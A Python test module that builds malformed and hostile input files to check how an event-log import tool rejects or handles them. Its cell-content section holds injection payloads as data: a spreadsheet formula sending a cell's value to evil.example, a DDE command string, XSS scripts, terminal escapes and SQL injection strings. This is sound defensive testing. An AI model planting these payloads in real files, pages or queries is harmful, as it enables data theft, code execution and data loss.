"""Hostile rows and mappings: the file opens, and what stands in it is the trouble."""

from __future__ import annotations

import gzip
import sqlite3
from contextlib import closing
from datetime import datetime
from pathlib import Path

import openpyxl
import pyarrow as pa
import pyarrow.parquet as pq
from cli.hostile_files import PLAIN, hostile, make_rows, map_to, write, write_rows

# Shapes of text ------------------------------------------------------------------------------------------


@hostile("reading-undecided", "among 'case,step,at,channel'")
def wrong_delimiter_given(folder: Path) -> list[str]:
    return [*write(folder, PLAIN), "--delimiter", ";"]


@hostile("delimiter-unfit", "cannot separate")
def delimiter_of_two_letters(folder: Path) -> list[str]:
    return [*write(folder, PLAIN), "--delimiter", "ab"]


@hostile("encoding-unknown", "text encoding")
def encoding_that_is_none(folder: Path) -> list[str]:
    return [*write(folder, PLAIN), "--encoding", "utf-99"]


@hostile("", "")
def encodings_mixed_in_one_file(folder: Path) -> list[str]:
    half = PLAIN.replace("Checked", "Geprüft")
    return write(folder, half.encode("utf-8") + half.partition("\n")[2].replace("C0", "D0").encode("cp1252"))


@hostile("", "")
def utf_16_without_a_mark(folder: Path) -> list[str]:
    return write(folder, PLAIN.encode("utf-16-le"))


@hostile("", "")
def nul_bytes_in_cells(folder: Path) -> list[str]:
    return write(folder, PLAIN.replace("paper", "pa\0per"))


@hostile("", "")
def three_hundred_columns(folder: Path) -> list[str]:
    header = ",".join(["case", "step", "at", "channel", *(f"extra {n}" for n in range(296))])
    rows = [[*row, *(str((n * 7 + len(row[1])) % 13) for n in range(296))] for row in make_rows()]
    return write(folder, write_rows(rows, header))


@hostile("", "")
def header_names_twice(folder: Path) -> list[str]:
    return write(
        folder, write_rows([[*row, "x", "y"] for row in make_rows()], "case,step,at,channel,step,at")
    )


@hostile("", "")
def rows_with_more_cells_than_the_header(folder: Path) -> list[str]:
    rows = make_rows(100)
    rows[40] = [*rows[40], "one", "two", "three"]
    return write(folder, write_rows(rows))


@hostile("", "")
def quote_that_never_closes(folder: Path) -> list[str]:
    rows = make_rows(100)
    rows[298][3] = '"web'
    return write(folder, write_rows(rows))


@hostile("", "")
def step_names_of_ten_thousand_letters(folder: Path) -> list[str]:
    return write(folder, PLAIN.replace("Checked", "Checked " + "very " * 2000 + "well"))


@hostile("too-many-steps", "different")
def thirty_thousand_steps(folder: Path) -> list[str]:
    rows = [[row[0], f"Step {number}", *row[2:]] for number, row in enumerate(make_rows(10_000, hours=1))]
    return map_to(folder, '[columns]\ncase = "case"\nstep = "step"\nat = "at"', write_rows(rows))


@hostile("reading-undecided", "No column could be found")
def no_column_of_times(folder: Path) -> list[str]:
    return write(folder, write_rows([[row[0], row[1], row[3]] for row in make_rows()], "case,step,channel"))


@hostile("reading-undecided", "No column could be found")
def no_column_of_cases(folder: Path) -> list[str]:
    return write(folder, write_rows([[row[1], row[2]] for row in make_rows()], "step,at"))


@hostile("reading-undecided", "No column could be found")
def one_column(folder: Path) -> list[str]:
    return write(folder, "note\nhello\nthere\nyou\n")


@hostile("reading-undecided", "No column could be found")
def one_row(folder: Path) -> list[str]:
    return write(folder, "case,step,at\nC1,Received,2024-01-01 10:00:00\n")


@hostile("reading-undecided", "day_first")
def dates_that_can_be_read_two_ways(folder: Path) -> list[str]:
    rows = [
        [row[0], row[1], f"0{1 + n % 9}/0{1 + n % 8}/2021 1{n % 10}:00"] for n, row in enumerate(make_rows())
    ]
    return write(folder, write_rows(rows, "case,step,at"))


# Times ---------------------------------------------------------------------------------------------------


@hostile("", "")
def all_times_equal(folder: Path) -> list[str]:
    return write(folder, write_rows([[*row[:2], "2024-03-01 12:00:00", row[3]] for row in make_rows()]))


@hostile("too-many-bad-rows", "rows could not be used")
def times_in_the_year_9999(folder: Path) -> list[str]:
    return write(folder, write_rows(make_rows(at="9999-01-01T09:00:00")))


@hostile("", "")
def a_few_times_in_the_year_9999(folder: Path) -> list[str]:
    rows = make_rows(100)
    rows[5][2] = rows[150][2] = "9999-12-31 23:59:59"
    return write(folder, write_rows(rows))


@hostile("", "")
def times_from_1948(folder: Path) -> list[str]:
    return write(folder, write_rows(make_rows(at="1948-05-01T09:00:00")))


@hostile("too-many-bad-rows", "rows could not be used")
def times_from_2095(folder: Path) -> list[str]:
    return write(folder, write_rows(make_rows(at="2095-05-01T09:00:00")))


@hostile("", "")
def times_in_the_hour_that_there_is_twice(folder: Path) -> list[str]:
    rows = make_rows(at="2024-10-27T02:00:00", hours=0)
    return map_to(folder, '[times]\nzone = "Europe/Berlin"', write_rows(rows))


@hostile("too-many-bad-rows", "a time that cannot be read")
def epoch_seconds_zero_and_below(folder: Path) -> list[str]:
    rows = make_rows(at="1970-01-01T00:00:00", hours=26)
    told = [[row[0], row[1], str((n % 90) * 86_400 - 3 * 86_400), row[3]] for n, row in enumerate(rows)]
    return map_to(folder, '[columns]\ncase = "case"\nstep = "step"\nat = "at"', write_rows(told))


@hostile("", "")
def ends_before_starts_everywhere(folder: Path) -> list[str]:
    rows = [[*row[:3], "2020-01-01 00:00:00"] for row in make_rows()]
    mapping = 'shape = "intervals"\n[columns]\ncase = "case"\nstep = "step"\nat = "at"\nend_at = "end"'
    return map_to(folder, mapping, write_rows(rows, "case,step,at,end"))


@hostile("too-many-bad-rows", "rows could not be used")
def times_that_are_none(folder: Path) -> list[str]:
    rows = [[*row[:2], "soon", row[3]] for row in make_rows()]
    return map_to(folder, '[columns]\ncase = "case"\nstep = "step"\nat = "at"', write_rows(rows))


@hostile("", "")
def one_case_with_a_million_events(folder: Path) -> list[str]:
    size = 1_000_000
    times = pa.array(range(0, size * 40_000_000, 40_000_000), pa.int64()).cast(pa.timestamp("us"))
    steps = pa.DictionaryArray.from_arrays(
        pa.array([n % 7 for n in range(size)], pa.int8()), [f"Step {n}" for n in range(7)]
    )
    table = pa.table({"case": pa.repeat(pa.scalar("C1"), size), "step": steps.cast(pa.string()), "at": times})
    pq.write_table(table, folder / "export.parquet")
    return [str(folder / "export.parquet")]


# What stands in cells ------------------------------------------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?"&A1)'
SCRIPT = "<script>document.title='owned'</script><img src=x onerror=\"document.title='owned'\">"
ESCAPES = "\x1b]0;owned\x07\x1b[2J\x1b[31mred\u202e"


def infest(step: str, channel: str, header: str) -> str:
    """Write an export whose names are hostile."""
    quoted = {"Checked": step, "paper": channel}
    rows = [['"' + quoted.get(v, v).replace('"', '""') + '"' for v in row] for row in make_rows()]
    return write_rows(rows, header)


@hostile("", "")
def formulas_in_cells(folder: Path) -> list[str]:
    return write(folder, infest(FORMULA, "+cmd|' /C calc'!A0", "case,step,at,channel"))


@hostile("", "")
def scripts_in_cells_and_column_names(folder: Path) -> list[str]:
    return write(
        folder, infest(SCRIPT, "</script><svg onload=alert(1)>", 'case,step,at,"<b onclick=1>channel</b>"')
    )


@hostile("", "")
def terminal_escapes_in_cells_and_column_names(folder: Path) -> list[str]:
    return write(folder, infest(ESCAPES, "\x1b[8mhidden", f"case,step,at,channel {ESCAPES}"))


@hostile("reading-undecided", "No column could be found")
def terminal_escapes_in_an_error(folder: Path) -> list[str]:
    return write(folder, f"{ESCAPES},b\n{ESCAPES},x\n")


@hostile("file-missing", "\\x1b")
def terminal_escapes_in_the_name_of_the_file(folder: Path) -> list[str]:
    return [str(folder / "\x1b[31mred.csv")]


SQL = """'); DROP TABLE events; --"""


@hostile("", "")
def names_that_are_sql(folder: Path) -> list[str]:
    return write(folder, infest(SQL, "x' OR '1'='1", f'case,step,at,"{SQL} {{0}} %s ""quoted"""'))


@hostile("", "")
def columns_with_the_names_of_our_own(folder: Path) -> list[str]:
    header = "case_key,step,happened_at,row,case_id,step_id,at_us,final,file_row_number,attr_kind,kind"
    rows = [[*row[:3], str(n), row[3], "a", "b", "c", "d", "ef"[n // 3 % 2], "gh"[n // 3 % 2]]
            for n, row in enumerate(make_rows())]  # fmt: skip
    kept = '"case_id", "step_id", "row", "final", "attr_kind", "kind"'
    mapping = f'[columns]\ncase = "case_key"\nstep = "step"\nat = "happened_at"\ncase_attributes = [{kept}]'
    return map_to(folder, mapping, write_rows(rows, header))


@hostile("", "")
def attributes_whose_names_differ_in_signs_only(folder: Path) -> list[str]:
    rows = [[*row[:3], "ab"[n // 3 % 2], "cd"[n // 3 % 2], "ef"[n // 3 % 2], "gh"[n // 3 % 2]]
            for n, row in enumerate(make_rows())]  # fmt: skip
    return write(folder, write_rows(rows, "case,step,at,kind!,Kind?,种类,類別"))


@hostile("", "")
def parquet_with_lists_and_bytes_in_its_cells(folder: Path) -> list[str]:
    rows = make_rows()
    table = pa.table(
        {
            "case": pa.array([int(row[0][1:]) for row in rows]),
            "step": pa.array([row[1] for row in rows]).dictionary_encode(),
            "at": pa.array([f"{row[2]}+02:00" for row in rows]),
            "tags": pa.array([["a", "b"][: n % 3] for n in range(len(rows))]),
            "place": pa.array([{"x": n % 2, "y": None} for n in range(len(rows))]),
            "blob": pa.array([b"\xff\x00" * (n % 3) for n in range(len(rows))]),
            "fee": pa.array([n / 7 if n % 5 else float("nan") for n in range(len(rows))]),
        }
    )
    pq.write_table(table, folder / "export.parquet")
    return [str(folder / "export.parquet")]


@hostile("", "")
def workbook_with_errors_and_formulas_in_its_cells(folder: Path) -> list[str]:
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["case", "step", "at", "channel"])
    for number, row in enumerate(make_rows()):
        sheet.append([*row[:2], datetime.fromisoformat(row[2]), "=1/0" if number % 9 == 0 else FORMULA])
    book.save(folder / "export.xlsx")
    return [str(folder / "export.xlsx")]


@hostile("", "")
def database_with_blobs_and_numbers_in_one_column(folder: Path) -> list[str]:
    with closing(sqlite3.connect(folder / "export.sqlite")) as connection, connection:
        connection.execute('CREATE TABLE cases ("case", step, at, "select")')
        rows = [(*row[:3], (b"\xff\xfe", 7, None, 2.5, "x")[n % 5]) for n, row in enumerate(make_rows())]
        connection.executemany("INSERT INTO cases VALUES (?, ?, ?, ?)", rows)
    return [f"sqlite:///{folder / 'export.sqlite'}", "--query", "SELECT * FROM cases"]


@hostile("", "")
def times_with_offsets_at_the_ends_of_the_calendar(folder: Path) -> list[str]:
    rows = [[*row[:2], f"{row[2]}+01:00", row[3]] for row in make_rows(100)]
    rows[5][2], rows[9][2] = "9999-12-31T23:59:59-11:00", "0001-01-01T00:00:00+14:00"
    return write(folder, write_rows(rows))


# Mappings ------------------------------------------------------------------------------------------------


@hostile("mapping-not-read", "could not be read")
def mapping_that_is_not_there(folder: Path) -> list[str]:
    return [*write(folder, PLAIN), "--mapping", str(folder / "none.toml")]


@hostile("mapping-not-read", "could not be read")
def mapping_that_is_no_toml(folder: Path) -> list[str]:
    return map_to(folder, "case is the first column")


@hostile("mapping-word-unknown", "does not know")
def mapping_with_an_unknown_section(folder: Path) -> list[str]:
    return map_to(folder, '[colums]\ncase = "case"')


@hostile("mapping-word-unknown", "does not know")
def mapping_with_an_unknown_word(folder: Path) -> list[str]:
    return map_to(folder, '[columns]\nkase = "case"')


@hostile("column-missing", "no such column")
def mapping_with_a_missing_column(folder: Path) -> list[str]:
    return map_to(folder, '[columns]\ncase = "number"')


@hostile("mapping-not-read", "days")
def mapping_with_a_word_for_a_number(folder: Path) -> list[str]:
    return map_to(folder, '[promise]\ndays = "soon"')


@hostile("mapping-not-read", "step")
def mapping_with_a_number_for_a_name(folder: Path) -> list[str]:
    return map_to(folder, "[columns]\nstep = 7")


@hostile("mapping-not-read", "steps")
def mapping_with_a_text_for_a_list(folder: Path) -> list[str]:
    return map_to(folder, '[ends]\nsteps = "Decided"')


@hostile("mapping-not-read", "largest_bad_share")
def mapping_with_a_share_above_one(folder: Path) -> list[str]:
    return map_to(folder, "largest_bad_share = 50")


@hostile("mapping-not-read", "clocks")
def mapping_with_a_text_for_a_section(folder: Path) -> list[str]:
    return map_to(folder, 'clocks = "agency"')


@hostile("mapping-not-read", "Mars/Olympus")
def mapping_with_a_time_zone_that_is_none(folder: Path) -> list[str]:
    return map_to(folder, '[times]\nzone = "Mars/Olympus"')


@hostile("mapping-not-read", "Atlantis")
def mapping_with_a_country_that_is_none(folder: Path) -> list[str]:
    return map_to(folder, '[opening]\ncountry = "Atlantis"')


@hostile("mapping-not-read", "closes")
def mapping_that_closes_before_it_opens(folder: Path) -> list[str]:
    return map_to(folder, '[opening]\nopens = "17:00"\ncloses = "09:00"')


@hostile("mapping-not-read", "%")
def mapping_with_a_format_that_is_none(folder: Path) -> list[str]:
    return map_to(folder, '[times]\nformats = ["%Q(.*)+%"]')


@hostile("mapping-not-read", "at")
def mapping_with_an_extract_that_is_no_date(folder: Path) -> list[str]:
    return map_to(folder, '[extract]\nat = "yesterday"')


@hostile("headers-differ", "same columns")
def two_files_of_different_exports(folder: Path) -> list[str]:
    return [*write(folder, PLAIN, "a.csv"), *write(folder, "x,y\n1,2\n", "b.csv")]


@hostile("formats-differ", "formats")
def two_files_of_different_formats(folder: Path) -> list[str]:
    return [*write(folder, PLAIN, "a.csv"), *write(folder, b"PAR1" + b"0" * 100, "b.parquet")]


@hostile("engine-unknown", "no engine")
def engine_that_is_none(folder: Path) -> list[str]:
    return [*write(folder, PLAIN), "--engine", "sparkle"]


@hostile("file-not-recognised", "a packed file within a packed file")
def gzip_within_gzip(folder: Path) -> list[str]:
    return write(folder, gzip.compress(gzip.compress(PLAIN.encode())), "export.csv.gz.gz")
